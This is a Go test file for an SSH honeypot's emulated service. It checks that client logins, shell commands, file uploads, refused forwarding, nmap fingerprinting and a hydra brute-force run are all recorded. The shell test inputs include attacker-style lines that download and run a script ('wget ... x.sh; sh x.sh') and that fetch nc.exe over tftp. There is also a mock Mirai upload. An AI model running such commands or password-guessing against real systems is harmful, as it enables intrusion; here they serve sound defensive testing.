package ssh

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

// need skips the test when a client is missing, naming its Debian
// package.
func need(t *testing.T, tools ...string) {
	t.Helper()
	pkgs := map[string]string{"ssh": "openssh-client", "scp": "openssh-client", "sftp": "openssh-client",
		"ssh-keygen": "openssh-client", "sshpass": "sshpass", "hydra": "hydra", "nmap": "nmap"}
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed (Debian package %s)", tool, pkgs[tool])
		}
	}
}

// sshOpts are the options every OpenSSH client run takes: no user
// configuration, no known hosts.
func sshOpts(h *servicetest.Harness, portFlag string) []string {
	return []string{"-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5", portFlag, strconv.Itoa(int(h.Addr.Port()))}
}

// run runs a client, bounded in time, with stdin as its input.
func run(t *testing.T, stdin string, name string, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	cmd.Stdin = strings.NewReader(stdin)
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &e
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	err = cmd.Run()
	return o.String(), e.String(), err
}

// keyPair makes an ed25519 key with ssh-keygen; it returns its file and
// its fingerprint as ssh-keygen prints it.
func keyPair(t *testing.T) (file, fp string) {
	t.Helper()
	need(t, "ssh-keygen")
	file = filepath.Join(t.TempDir(), "id_ed25519")
	if out, _, err := run(t, "", "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "test", "-f", file); err != nil {
		t.Fatalf("ssh-keygen: %v %s", err, out)
	}
	out, _, err := run(t, "", "ssh-keygen", "-l", "-E", "sha256", "-f", file+".pub")
	if err != nil {
		t.Fatalf("ssh-keygen -l: %v", err)
	}
	f := strings.Fields(out)
	if len(f) < 2 || !strings.HasPrefix(f[1], "SHA256:") {
		t.Fatalf("ssh-keygen -l printed %q", out)
	}
	return file, f[1]
}

func logins(evs []*event.Event) []*event.Login {
	var out []*event.Login
	for _, e := range servicetest.OfKind(evs, event.KindLogin) {
		out = append(out, e.Detail.(*event.Login))
	}
	return out
}

func commands(evs []*event.Event) []*event.Command {
	var out []*event.Command
	for _, e := range servicetest.OfKind(evs, event.KindCommand) {
		out = append(out, e.Detail.(*event.Command))
	}
	return out
}

// sshpass logs in with a password and runs a command; it returns the
// output.
func sshpassRun(t *testing.T, h *servicetest.Harness, user, pass, command string) (string, string, error) {
	t.Helper()
	need(t, "ssh", "sshpass")
	args := append([]string{"-p", pass, "ssh"}, sshOpts(h, "-p")...)
	args = append(args, "-o", "PreferredAuthentications=password,keyboard-interactive", user+"@127.0.0.1", command)
	return run(t, "", "sshpass", args...)
}

func TestOpenSSHPasswordExec(t *testing.T) {
	tests := []struct {
		profile, user, pass, command string
		want                         []string
	}{
		{service.ProfileWindows2000, "Administrator", "admin", "ver & echo %USERNAME% & cd",
			[]string{"Microsoft Windows 2000 [Version 5.00.2195]", "Administrator", `C:\Documents and Settings\Administrator`}},
		{service.ProfileLinuxIoT, "root", "xc3511", "uname -a; echo $USER; pwd",
			[]string{"Linux (none) 2.6.36 #1 Mon Jun 17 10:49:02 CST 2013 mips GNU/Linux\nroot\n/root\n"}},
	}
	for _, tc := range tests {
		t.Run(tc.profile, func(t *testing.T) {
			s := newServer(t, tc.profile, nil)
			h := servicetest.Start(t, "ssh", s, nil)
			out, errOut, err := sshpassRun(t, h, tc.user, tc.pass, tc.command)
			if err != nil {
				t.Fatalf("ssh: %v\n%s", err, errOut)
			}
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("output %q lacks %q", out, w)
				}
			}
			evs := h.WaitClosed(t, 1)
			hello := servicetest.OfKind(evs, event.KindSSH)
			if len(hello) != 1 {
				t.Fatalf("ssh events: %d; want 1 (%s)", len(hello), servicetest.Summary(evs))
			}
			if d := hello[0].Detail.(*event.SSH); !strings.HasPrefix(d.ClientVersion, "SSH-2.0-OpenSSH_") ||
				len(d.HASSH) != 32 || len(d.Kex) == 0 || d.Malformed != "" {
				t.Errorf("ssh event %+v; want OpenSSH's identification and offer", d)
			}
			ls := logins(evs)
			if len(ls) != 1 || ls[0].User != tc.user || ls[0].Password != tc.pass || ls[0].Method != "password" || !ls[0].Success {
				t.Errorf("logins %+v; want one successful password login", ls)
			}
			cs := commands(evs)
			if len(cs) != 1 || cs[0].Line != tc.command || !cs[0].Known {
				t.Errorf("commands %+v; want %q", cs, tc.command)
			}
		})
	}
}

func TestOpenSSHPasswordRefused(t *testing.T) {
	s := newServer(t, service.ProfileLinuxIoT, func(c *Config) {
		c.Login.Accept, c.Login.AcceptAfter = nil, 0
	})
	h := servicetest.Start(t, "ssh", s, nil)
	_, errOut, err := sshpassRun(t, h, "admin", "wrong", "id")
	if err == nil {
		t.Fatal("ssh with a refused password succeeded")
	}
	if !strings.Contains(errOut, "Permission denied") {
		t.Errorf("ssh said %q; want Permission denied", errOut)
	}
	evs := h.WaitClosed(t, 1)
	ls := logins(evs)
	if len(ls) == 0 {
		t.Fatalf("no login events: %s", servicetest.Summary(evs))
	}
	for _, l := range ls {
		if l.User != "admin" || l.Password != "wrong" || l.Success {
			t.Errorf("login %+v; want admin/wrong refused", l)
		}
	}
	if len(commands(evs)) != 0 {
		t.Errorf("a refused client ran commands: %+v", commands(evs))
	}
}

func TestOpenSSHPublicKey(t *testing.T) {
	need(t, "ssh")
	key, fp := keyPair(t)
	keyArgs := func(h *servicetest.Harness, command string) []string {
		args := sshOpts(h, "-p")
		return append(args, "-o", "PreferredAuthentications=publickey", "-o", "IdentitiesOnly=yes",
			"-o", "BatchMode=yes", "-i", key, "root@127.0.0.1", command)
	}

	t.Run("refused", func(t *testing.T) {
		h := servicetest.Start(t, "ssh", newServer(t, service.ProfileLinuxIoT, nil), nil)
		_, errOut, err := run(t, "", "ssh", keyArgs(h, "id")...)
		if err == nil || !strings.Contains(errOut, "Permission denied (") || !strings.Contains(errOut, "publickey") {
			t.Errorf("ssh got %v %q; want Permission denied (...publickey...)", err, errOut)
		}
		ls := logins(h.WaitClosed(t, 1))
		if len(ls) != 1 || ls[0].Method != "publickey" || ls[0].Key != fp || ls[0].User != "root" || ls[0].Success {
			t.Errorf("logins %+v; want the key %s refused", ls, fp)
		}
	})
	t.Run("accepted", func(t *testing.T) {
		s := newServer(t, service.ProfileLinuxIoT, func(c *Config) { c.Login.AcceptKeys = []string{"root:" + fp} })
		h := servicetest.Start(t, "ssh", s, nil)
		out, errOut, err := run(t, "", "ssh", keyArgs(h, "id")...)
		if err != nil {
			t.Fatalf("ssh: %v %s", err, errOut)
		}
		if !strings.HasPrefix(out, "uid=0(root) gid=0(root)") {
			t.Errorf("id printed %q", out)
		}
		ls := logins(h.WaitClosed(t, 1))
		if len(ls) != 1 || ls[0].Method != "publickey" || ls[0].Key != fp || !ls[0].Success {
			t.Errorf("logins %+v; want the key %s accepted once", ls, fp)
		}
	})
}

// keyServer starts a server of profile that lets the key in, and returns
// the arguments that log in with it.
func keyServer(t *testing.T, profile, user string, edit func(*Config)) (*servicetest.Harness, func(portFlag string) []string) {
	t.Helper()
	need(t, "ssh")
	key, fp := keyPair(t)
	s := newServer(t, profile, func(c *Config) {
		c.Login.AcceptKeys = []string{fp}
		if edit != nil {
			edit(c)
		}
	})
	h := servicetest.Start(t, "ssh", s, nil)
	return h, func(portFlag string) []string {
		return append(sshOpts(h, portFlag), "-o", "PreferredAuthentications=publickey", "-o", "IdentitiesOnly=yes",
			"-o", "BatchMode=yes", "-i", key)
	}
}

// samplesOf returns the sample events of a source.
func samplesOf(evs []*event.Event, source string) []*event.Sample {
	var out []*event.Sample
	for _, e := range servicetest.OfKind(evs, event.KindSample) {
		if d := e.Detail.(*event.Sample); d.Source == source {
			out = append(out, d)
		}
	}
	return out
}

func uploads(evs []*event.Event) []*event.Upload {
	var out []*event.Upload
	for _, e := range servicetest.OfKind(evs, event.KindUpload) {
		out = append(out, e.Detail.(*event.Upload))
	}
	return out
}

// checkCast parses an asciicast v2 recording and returns its output and
// input.
func checkCast(t *testing.T, cast []byte) (output, input string) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(string(cast), "\n"), "\n")
	var head struct {
		Version, Width, Height int
		Timestamp              int64
	}
	if err := json.Unmarshal([]byte(lines[0]), &head); err != nil || head.Version != 2 || head.Width <= 0 ||
		head.Height <= 0 || head.Timestamp <= 0 {
		t.Fatalf("asciicast header %q: %+v %v", lines[0], head, err)
	}
	last := -1.0
	var o, in strings.Builder
	for _, l := range lines[1:] {
		var ev []any
		if err := json.Unmarshal([]byte(l), &ev); err != nil || len(ev) != 3 {
			t.Fatalf("asciicast event %q: %v", l, err)
		}
		ts, ok1 := ev[0].(float64)
		kind, ok2 := ev[1].(string)
		data, ok3 := ev[2].(string)
		if !ok1 || !ok2 || !ok3 || ts < last {
			t.Fatalf("asciicast event %q: want [increasing time, kind, data]", l)
		}
		last = ts
		switch kind {
		case "o":
			o.WriteString(data)
		case "i":
			in.WriteString(data)
		case "r":
		default:
			t.Fatalf("asciicast event kind %q", kind)
		}
	}
	return o.String(), in.String()
}

func TestOpenSSHShellRecorded(t *testing.T) {
	tests := []struct {
		profile, user, input string
		lines                []string
		screen               []string
	}{
		{service.ProfileLinuxIoT, "root", "cd /tmp\nwget http://198.51.100.7/x.sh; sh x.sh\nls -l /tmp\nexit\n",
			[]string{"cd /tmp", "wget http://198.51.100.7/x.sh; sh x.sh", "ls -l /tmp", "exit"},
			[]string{"BusyBox v1.12.1 (2013-06-17 10:45:24 CST) built-in shell (ash)", "# cd /tmp\r\n", "# "}},
		{service.ProfileWindows2000, "Administrator", "cd \\Inetpub\\scripts\r\ntftp -i 198.51.100.7 GET nc.exe\r\ndir\r\nexit\r\n",
			[]string{`cd \Inetpub\scripts`, "tftp -i 198.51.100.7 GET nc.exe", "dir", "exit"},
			[]string{"Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.",
				`C:\Documents and Settings\Administrator>cd \Inetpub\scripts`, `C:\Inetpub\scripts>`}},
	}
	for _, tc := range tests {
		t.Run(tc.profile, func(t *testing.T) {
			h, args := keyServer(t, tc.profile, tc.user, nil)
			out, errOut, err := run(t, tc.input, "ssh", append(args("-p"), "-tt", tc.user+"@127.0.0.1")...)
			if err != nil {
				t.Fatalf("ssh -tt: %v %s\n%q", err, errOut, out)
			}
			evs := h.WaitClosed(t, 1)
			var got []string
			for _, c := range commands(evs) {
				got = append(got, c.Line)
			}
			if strings.Join(got, "|") != strings.Join(tc.lines, "|") {
				t.Errorf("commands %q; want %q", got, tc.lines)
			}
			if len(servicetest.OfKind(evs, event.KindDownload)) != 1 {
				t.Errorf("downloads: %s; want one", servicetest.Summary(evs))
			}
			casts := samplesOf(evs, "ssh.asciicast")
			if len(casts) != 1 {
				t.Fatalf("asciicast samples %d; want 1", len(casts))
			}
			data, ok := h.Samples.Get(casts[0].SHA256)
			if !ok {
				t.Fatal("asciicast not in the sample store")
			}
			screen, typed := checkCast(t, data)
			for _, w := range tc.screen {
				if !strings.Contains(screen, w) {
					t.Errorf("recorded screen lacks %q:\n%s", w, screen)
				}
				if !strings.Contains(out, w) {
					t.Errorf("client's screen lacks %q:\n%s", w, out)
				}
			}
			if typed != tc.input {
				t.Errorf("recorded input %q; want %q", typed, tc.input)
			}
		})
	}
}

func TestOpenSSHUploads(t *testing.T) {
	need(t, "scp", "sftp")
	dir := t.TempDir()
	payload := bytes.Repeat([]byte("\x7fELF\x01\x01\x01 mirai "), 3000) // 45 KB
	local := filepath.Join(dir, "bot.mips")
	if err := os.WriteFile(local, payload, 0o755); err != nil {
		t.Fatal(err)
	}
	sum := fmt.Sprintf("%x", sha256.Sum256(payload))
	batch := filepath.Join(dir, "batch")
	if err := os.WriteFile(batch, []byte("put "+local+" /tmp/.x\nchmod 755 /tmp/.x\nls /tmp\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, tool string
		args       []string
		via, path  string
		lines      []string
	}{
		{"scp legacy protocol", "scp", []string{"-O", local, "root@127.0.0.1:/tmp/"}, "scp", "/tmp/bot.mips",
			[]string{"scp -t /tmp/"}},
		{"scp over sftp", "scp", []string{local, "root@127.0.0.1:/var/bot"}, "sftp", "/var/bot",
			[]string{"put /var/bot"}},
		{"sftp batch", "sftp", []string{"-b", batch, "root@127.0.0.1"}, "sftp", "/tmp/.x",
			[]string{"put /tmp/.x", "chmod 755 /tmp/.x", "ls /tmp"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			h, args := keyServer(t, service.ProfileLinuxIoT, "root", nil)
			out, errOut, err := run(t, "", tc.tool, append(args("-P"), tc.args...)...)
			if err != nil {
				t.Fatalf("%s: %v\n%s%s", tc.tool, err, out, errOut)
			}
			evs := h.WaitClosed(t, 1)
			ups := uploads(evs)
			if len(ups) != 1 || ups[0].Via != tc.via || ups[0].Name != tc.path || ups[0].SHA256 != sum ||
				ups[0].Size != int64(len(payload)) || ups[0].Truncated {
				t.Fatalf("uploads %+v; want %s of %d bytes via %s, sha256 %s", ups, tc.path, len(payload), tc.via, sum)
			}
			if got, ok := h.Samples.Get(sum); !ok || !bytes.Equal(got, payload) {
				t.Errorf("sample %s not stored whole", sum)
			}
			var lines []string
			for _, c := range commands(evs) {
				lines = append(lines, c.Line)
			}
			for _, l := range tc.lines {
				if !slices.Contains(lines, l) {
					t.Errorf("commands %q lack %q", lines, l)
				}
			}
		})
	}
}

func TestOpenSSHForwardingRefused(t *testing.T) {
	h, args := keyServer(t, service.ProfileLinuxIoT, "root", nil)
	_, errOut, err := run(t, "", "ssh", append(args("-p"), "-W", "10.1.2.3:3306", "root@127.0.0.1")...)
	if err == nil || !strings.Contains(errOut, "forwarding failed") {
		t.Errorf("ssh -W got %v %q; want the channel refused", err, errOut)
	}
	_, errOut, err = run(t, "", "ssh", append(args("-p"), "-o", "ExitOnForwardFailure=yes", "-N",
		"-R", "0.0.0.0:2222:127.0.0.1:22", "root@127.0.0.1")...)
	if err == nil || !strings.Contains(errOut, "remote port forwarding failed") {
		t.Errorf("ssh -R got %v %q; want the forwarding refused", err, errOut)
	}
	evs := h.WaitClosed(t, 2)
	var got []string
	for _, e := range servicetest.OfKind(evs, event.KindRequest) {
		r := e.Detail.(*event.Request)
		got = append(got, r.Method+" "+r.URI+" "+r.Action)
	}
	want := []string{"direct-tcpip 10.1.2.3:3306 refused", "tcpip-forward 0.0.0.0:2222 refused"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("requests %q; want %q", got, want)
	}
}

func TestNmapNamesThePersona(t *testing.T) {
	need(t, "nmap")
	// nmap's NULL probe reads the identification string; the lines of
	// nmap-service-probes this relies on:
	//   match ssh m|^SSH-([\d.]+)-OpenSSH[_-]([\w.]+)\s*\r?\n|i p/OpenSSH/ v/$2/ i/protocol $1/ ...
	//   match ssh m|^SSH-2\.0-dropbear_([-\w.]+)\r?\n| p/Dropbear sshd/ v/$1/ i/protocol 2.0/ o/Linux/ ...
	//   match ssh m|^SSH-([\d.]+)-OpenSSH_([\w._-]+)[ -]{1,2}Debian[ -_]([^\r\n]+)\r?\n| p/OpenSSH/ v/$2 Debian $3/ ...
	// and the ssh2-enum-algos script reads the server's KEXINIT.
	tests := []struct {
		profile, release string
		product          string
	}{
		{service.ProfileWindows2000, "", "ssh     OpenSSH for_Windows_8.1 (protocol 2.0)"},
		{service.ProfileLinuxIoT, "", "ssh     Dropbear sshd 2019.78 (protocol 2.0)"},
		{service.ProfileLinuxIoT, ReleaseDebian, "ssh     OpenSSH 7.9p1 Debian 10+deb10u4 (protocol 2.0)"},
	}
	var ports []string
	servers := map[string]*Server{}
	for _, tc := range tests {
		s := newServer(t, tc.profile, func(c *Config) {
			if tc.release != "" {
				c.Persona.Release = tc.release
			}
		})
		h := servicetest.Start(t, "ssh", s, nil)
		port := strconv.Itoa(int(h.Addr.Port()))
		ports = append(ports, port)
		servers[port] = s
	}
	out, errOut, err := run(t, "", "nmap", "-sV", "-Pn", "-n", "--script", "ssh2-enum-algos",
		"-p", strings.Join(ports, ","), "127.0.0.1")
	if err != nil {
		t.Fatalf("nmap: %v %s", err, errOut)
	}
	// Cut the report into one part per port.
	parts := map[string]string{}
	cur := ""
	for _, l := range strings.Split(out, "\n") {
		if i := strings.Index(l, "/tcp "); i > 0 && !strings.HasPrefix(l, "|") {
			cur = l[:i]
		}
		if cur != "" {
			parts[cur] += l + "\n"
		}
	}
	for i, tc := range tests {
		p := parts[ports[i]]
		if !strings.Contains(p, tc.product) {
			t.Errorf("%s %s: nmap said\n%s\nwant %q", tc.profile, tc.release, p, tc.product)
		}
		per := servers[ports[i]].persona
		for _, want := range []string{
			fmt.Sprintf("kex_algorithms: (%d)", len(per.Kex)+1),
			fmt.Sprintf("encryption_algorithms: (%d)", len(per.Ciphers)),
			fmt.Sprintf("mac_algorithms: (%d)", len(per.MACs)),
			"|       " + per.Kex[0] + "\n", "|       " + per.Ciphers[len(per.Ciphers)-1] + "\n",
			"|       " + per.MACs[0] + "\n", "|       " + per.HostKeys[0] + "\n",
		} {
			if !strings.Contains(p, want) {
				t.Errorf("%s %s: ssh2-enum-algos lacks %q:\n%s", tc.profile, tc.release, want, p)
			}
		}
	}
}

// hydra 9.4 ends its attack as soon as a worker asks for a guess and
// none is left, killing workers still in the middle of one ("Writing
// restore file because N final worker threads did not complete"), so
// the last guesses may never reach the server: up to N of them may have
// no login event.
func TestHydraEveryAttemptRecorded(t *testing.T) {
	const tasks = 4
	need(t, "hydra")
	s := newServer(t, service.ProfileLinuxIoT, func(c *Config) { c.Login.Accept, c.Login.AcceptAfter = nil, 0 })
	h := servicetest.Start(t, "ssh", s, nil)
	var passwords []string
	for i := range 20 {
		passwords = append(passwords, fmt.Sprintf("guess%02d", i))
	}
	list := filepath.Join(t.TempDir(), "passwords")
	if err := os.WriteFile(list, []byte(strings.Join(passwords, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// -w 5: hydra 9.4 now and then loses a child's answer at the end of
	// its attack (every guess answered and every connection closed by
	// hydra) and waits -w seconds (32 by default, beyond run's time
	// limit) before it tries that guess again.
	out, errOut, err := run(t, "", "hydra", "-w", "5", "-l", "root", "-P", list, "-t", strconv.Itoa(tasks), "-s",
		strconv.Itoa(int(h.Addr.Port())), "-I", "127.0.0.1", "ssh")
	// When hydra cuts guesses off it may exit with status 255 ("1 target
	// did not resolve or could not be connected", thc-hydra issue #1102),
	// whatever it found: the events decide.
	if err != nil && !regexp.MustCompile(`final worker threads? did not complete`).MatchString(out+errOut) {
		t.Fatalf("hydra: %v\n%s%s", err, out, errOut)
	}
	if !strings.Contains(out, "0 valid password") {
		t.Errorf("hydra said %q; want no valid password", out)
	}
	cutOff := 0
	if m := regexp.MustCompile(`because (\d+) final worker threads? did not complete`).FindStringSubmatch(out + errOut); m != nil {
		cutOff, _ = strconv.Atoi(m[1])
	}
	// The worker that found nothing left to do is not one of them.
	if cutOff > tasks-1 {
		t.Fatalf("hydra says it cut off %d guesses; with %d workers it cannot cut off more than %d:\n%s%s", cutOff, tasks, tasks-1, out, errOut)
	}
	// Every attempt hydra finished is a login event: wait until each
	// password but those hydra cut off is seen and every session closed.
	evs := h.Events.Wait(t, 20*time.Second, func(evs []*event.Event) bool {
		seen := map[string]bool{}
		for _, l := range logins(evs) {
			seen[l.Password] = true
		}
		missing := 0
		for _, p := range passwords {
			if !seen[p] {
				missing++
			}
		}
		return missing <= cutOff &&
			len(servicetest.OfKind(evs, event.KindClose)) == len(servicetest.OfKind(evs, event.KindConnect))
	})
	for _, l := range logins(evs) {
		if l.User != "root" || l.Method != "password" || l.Success || !slices.Contains(passwords, l.Password) {
			t.Errorf("login %+v; want root with a password from the list, refused", l)
		}
	}
	t.Logf("%d attempts recorded for %d passwords", len(logins(evs)), len(passwords))
}
